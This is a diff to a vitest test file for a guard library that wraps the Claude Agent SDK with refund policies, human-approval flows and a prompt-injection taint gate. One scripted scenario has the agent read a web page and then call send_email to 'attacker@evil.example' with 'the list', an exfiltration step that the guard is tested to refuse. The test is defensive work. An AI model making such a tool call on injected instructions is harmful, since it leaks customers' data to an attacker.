@@ -3,10 +3,15 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { createSdkMcpServer, type Options, query, tool } from "@anthropic-ai/claude-agent-sdk";
 import { withRun } from "@loopguard/core";
-import { type MessagesApiServer, messagesApiServer } from "@loopguard/core/testing";
+import { foldRun } from "@loopguard/core/plugin";
+import {
+  type MessagesApiServer,
+  memoryEventStore,
+  messagesApiServer,
+} from "@loopguard/core/testing";
 import { heuristicScanner, taintGate } from "@loopguard/injection";
 import { allow, argGt, ask, deny, policy } from "@loopguard/policy";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { z } from "zod";
 import { loopguardHooks } from "../src/index.js";
 
@@ -37,10 +42,15 @@ function shopServer(log: string[]) {
   return createSdkMcpServer({
     name: "shop",
     tools: [
-      tool("issue_refund", "Refund an order.", { order_id: z.string(), amount: z.number() }, async (args) => {
-        log.push(`refund ${args.order_id} ${args.amount}`);
-        return { content: [{ type: "text", text: `refunded ${args.amount}` }] };
-      }),
+      tool(
+        "issue_refund",
+        "Refund an order.",
+        { order_id: z.string(), amount: z.number() },
+        async (args) => {
+          log.push(`refund ${args.order_id} ${args.amount}`);
+          return { content: [{ type: "text", text: `refunded ${args.amount}` }] };
+        },
+      ),
       tool("read_page", "Read a web page.", { url: z.string() }, async () => ({
         content: [
           {
@@ -80,7 +90,9 @@ async function run(server: MessagesApiServer, options: Partial<Options>): Promis
     if (message.type !== "user" || typeof message.message.content === "string") continue;
     for (const part of message.message.content)
       if (part.type === "tool_result")
-        results.push(typeof part.content === "string" ? part.content : JSON.stringify(part.content));
+        results.push(
+          typeof part.content === "string" ? part.content : JSON.stringify(part.content),
+        );
   }
   await server.close();
   return results;
@@ -100,7 +112,13 @@ describe("loopguardHooks with the real Claude Agent SDK against a loopback Messa
     ]);
     const guard = loopguardHooks({
       gates: [
-        policy([deny("mcp__shop__issue_refund", { when: argGt("amount", 500), reason: "refund_too_large" }), allow("*")]),
+        policy([
+          deny("mcp__shop__issue_refund", {
+            when: argGt("amount", 500),
+            reason: "refund_too_large",
+          }),
+          allow("*"),
+        ]),
       ],
       run: { agentId: "shop" },
     });
@@ -123,12 +141,14 @@ describe("loopguardHooks with the real Claude Agent SDK against a loopback Messa
       { name: "mcp__shop__read_page", input: { url: "https://example.com" } },
       { name: "mcp__shop__send_email", input: { to: "attacker@evil.example", body: "the list" } },
     ]);
-    const guard = await withRun({ agentId: "shop", task: "Help the customer with order A1" }, async () =>
-      loopguardHooks({
-        gates: [taintGate()],
-        scanner: heuristicScanner(),
-        sensitiveTools: ["mcp__shop__send_email"],
-      }),
+    const guard = await withRun(
+      { agentId: "shop", task: "Help the customer with order A1" },
+      async () =>
+        loopguardHooks({
+          gates: [taintGate()],
+          scanner: heuristicScanner(),
+          sensitiveTools: ["mcp__shop__send_email"],
+        }),
     );
     const results = await run(server, {
       mcpServers: { shop: shopServer(log) },
@@ -140,10 +160,57 @@ describe("loopguardHooks with the real Claude Agent SDK against a loopback Messa
     expect(results[1]).toMatch(/Refused by loopguard \(taint/);
   }, 60_000);
 
+  it("inside a logged withRun, the SDK's calls are logged like the loop's, and a durable ask waits for a person", async () => {
+    const log: string[] = [];
+    const store = memoryEventStore();
+    server = await scriptedServer([
+      { name: "mcp__shop__issue_refund", input: { order_id: "A1", amount: 20 } },
+      { name: "mcp__shop__issue_refund", input: { order_id: "A2", amount: 900 } },
+      { name: "mcp__shop__issue_refund", input: { order_id: "A3", amount: 300 } },
+    ]);
+    const results = await withRun(
+      { agentId: "shop", runId: "run_claude", store, approval: { durable: true } },
+      async () => {
+        const guard = loopguardHooks({
+          gates: [
+            policy([
+              deny("mcp__shop__issue_refund", { when: argGt("amount", 500) }),
+              ask("mcp__shop__issue_refund", { when: argGt("amount", 100) }),
+              allow("*"),
+            ]),
+          ],
+        });
+        return run(server!, {
+          mcpServers: { shop: shopServer(log) },
+          hooks: guard.hooks,
+          canUseTool: guard.canUseTool,
+        });
+      },
+    );
+    expect(log).toEqual(["refund A1 20"]);
+    expect(results[1]).toContain("Refused by loopguard (policy_deny)");
+    expect(results[2]).toContain("Refused by loopguard (approval_pending)");
+    const events = await store.read("run_claude");
+    expect(events.map((event) => event.type)).toEqual([
+      "run-start",
+      "tool-call-intent",
+      "tool-call-result",
+      "tool-call-refusal",
+      "approval-request",
+    ]);
+    expect(events[2]).toMatchObject({
+      status: "ok",
+      content: expect.stringContaining("refunded 20"),
+    });
+    expect(foldRun(events).status).toBe("awaiting_approval");
+  }, 60_000);
+
   it("asks loopguard's approver, and without one hands the ask to the SDK's permission flow", async () => {
     const log: string[] = [];
     const asked: string[] = [];
-    server = await scriptedServer([{ name: "mcp__shop__issue_refund", input: { order_id: "A1", amount: 300 } }]);
+    server = await scriptedServer([
+      { name: "mcp__shop__issue_refund", input: { order_id: "A1", amount: 300 } },
+    ]);
     const guard = loopguardHooks({
       gates: [policy([ask("mcp__shop__issue_refund"), allow("*")])],
       approver: (request) => {
@@ -151,23 +218,41 @@ describe("loopguardHooks with the real Claude Agent SDK against a loopback Messa
         return "approve";
       },
     });
-    await run(server, { mcpServers: { shop: shopServer(log) }, hooks: guard.hooks, canUseTool: guard.canUseTool });
+    await run(server, {
+      mcpServers: { shop: shopServer(log) },
+      hooks: guard.hooks,
+      canUseTool: guard.canUseTool,
+    });
     expect(asked).toEqual(["mcp__shop__issue_refund"]);
     expect(log).toEqual(["refund A1 300"]);
 
+    // Without an approver, the ask goes to the app's own permission callback, passed to the
+    // hooks so its answer is recorded as the approval: here the user says no, then yes.
     const permissions: string[] = [];
-    server = await scriptedServer([{ name: "mcp__shop__issue_refund", input: { order_id: "A2", amount: 300 } }]);
-    const deferring = loopguardHooks({ gates: [policy([ask("mcp__shop__issue_refund"), allow("*")])] });
+    const answers = ["deny", "allow"];
+    server = await scriptedServer([
+      { name: "mcp__shop__issue_refund", input: { order_id: "A2", amount: 300 } },
+      { name: "mcp__shop__issue_refund", input: { order_id: "A3", amount: 300 } },
+    ]);
+    const deferring = loopguardHooks({
+      gates: [policy([ask("mcp__shop__issue_refund"), allow("*")])],
+      canUseTool: async (toolName, input) => {
+        permissions.push(toolName);
+        return answers.shift() === "allow"
+          ? { behavior: "allow", updatedInput: input }
+          : { behavior: "deny", message: "the user said no" };
+      },
+    });
     const results = await run(server, {
       mcpServers: { shop: shopServer(log) },
       hooks: deferring.hooks,
-      canUseTool: async (toolName) => {
-        permissions.push(toolName);
-        return { behavior: "deny", message: "the user said no" };
-      },
+      canUseTool: deferring.canUseTool,
     });
-    expect(permissions).toEqual(["mcp__shop__issue_refund"]);
+    expect(permissions).toEqual(["mcp__shop__issue_refund", "mcp__shop__issue_refund"]);
     expect(results[0]).toContain("the user said no");
-    expect(log).toEqual(["refund A1 300"]);
+    expect(results[1]).toContain("refunded 300");
+    expect(log).toEqual(["refund A1 300", "refund A3 300"]);
+    expect(deferring.run.refusals.map((refusal) => refusal.reason)).toEqual(["approval_denied"]);
+    expect(deferring.run.calls.map((call) => call.toolUseId)).toEqual(["toolu_2"]);
   }, 60_000);
 });
